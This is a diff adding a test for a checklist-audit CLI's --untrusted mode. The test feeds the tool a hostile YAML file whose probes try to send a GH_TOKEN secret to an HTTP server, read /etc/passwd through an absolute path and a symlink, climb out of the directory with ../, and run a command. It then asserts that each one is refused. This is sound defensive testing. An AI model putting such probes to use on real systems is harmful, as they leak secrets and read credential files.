@@ -438,3 +438,74 @@ sections:
     }, 150_000);
   });
 });
+
+describe("--untrusted (item 9)", () => {
+  it("refuses environment names not allowed, paths and extends outside the directory, and runs no program", async () => {
+    const seen: string[] = [];
+    const server = await startHttpServer((req, res) => {
+      seen.push(req.url ?? "");
+      res.writeHead(200).end("ok");
+    });
+    const p = tempProject({ "ok.txt": "hello\n" });
+    try {
+      symlinkSync("/etc", join(p.dir, "etclink"));
+      const hostile = `version: 1
+name: hostile
+sections:
+  - id: s
+    title: S
+    items:
+      - id: a
+        title: A
+        probes:
+          - http: "${server.url}/?t=\${env.GH_TOKEN}"
+          - file: /etc/passwd
+            matches: "^root"
+          - tls: "127.0.0.1:9"
+            ca: ../ca.pem
+`;
+      p.write("hostile.yaml", hostile);
+      const r = await runCli(["audit", "hostile.yaml", "--untrusted"], { cwd: p.dir, env: { GH_TOKEN: "ghp_secret_value" } });
+      expect(r.code).toBe(2);
+      expect(r.stderr).toContain("hostile.yaml:10:19: environment variable GH_TOKEN is not allowed with --untrusted (allow it with --allow-env GH_TOKEN");
+      expect(r.stderr).toMatch(/hostile\.yaml:11:\d+: "\/etc\/passwd" is absolute/);
+      expect(r.stderr).toMatch(/hostile\.yaml:14:\d+: "\.\.\/ca\.pem" goes up with \.\./);
+      expect(seen).toEqual([]);
+
+      p.write("pkg.yaml", "version: 1\nname: p\nextends: [some-package]\nsections: []\n");
+      const pkg = await runCli(["validate", "pkg.yaml"], { cwd: p.dir });
+      expect(pkg.code).toBe(2);
+      const pkgUntrusted = await runCli(["audit", "pkg.yaml", "--untrusted"], { cwd: p.dir });
+      expect(pkgUntrusted.stderr).toContain("extends some-package: a package is not extended with --untrusted");
+
+      const marker = join(p.dir, "PWNED");
+      p.write(
+        "inside.yaml",
+        `version: 1
+name: inside
+sections:
+  - id: s
+    title: S
+    items:
+      - { id: link, title: L, probes: [{ file: etclink/passwd, matches: "^root" }] }
+      - { id: ok, title: O, probes: [{ file: ok.txt, contains: "\${env.ALLOWED}" }] }
+      - { id: cmd, title: C, probes: [{ command: [touch, ${JSON.stringify(marker)}] }] }
+      - { id: http, title: H, probes: [{ http: "${server.url}/?q=\${env.ALLOWED}" }] }
+`,
+      );
+      const dry = await runCli(["audit", "inside.yaml", "--untrusted", "--allow-env", "ALLOWED", "--dry-run"], { cwd: p.dir, env: { ALLOWED: "hello" } });
+      expect(dry.stdout).toContain("Environment variables read: ALLOWED");
+      const run = await runCli(["audit", "inside.yaml", "--untrusted", "--allow-env", "ALLOWED", "-f", "json"], { cwd: p.dir, env: { ALLOWED: "hello" } });
+      const report = JSON.parse(run.stdout) as { sections: { items: { id: string; result: string; probes: { message: string }[] }[] }[] };
+      const byId = Object.fromEntries(report.sections[0]!.items.map((i) => [i.id, i]));
+      expect(byId.link!.probes[0]!.message).toBe("etclink/passwd is outside the checklist's directory (after following symbolic links): refused with --untrusted");
+      expect(byId.ok!.result).toBe("pass");
+      expect(byId.cmd!.result).toBe("skipped");
+      expect(existsSync(marker)).toBe(false);
+      expect(seen).toEqual(["/?q=hello"]);
+    } finally {
+      p.cleanup();
+      await server.close();
+    }
+  });
+});
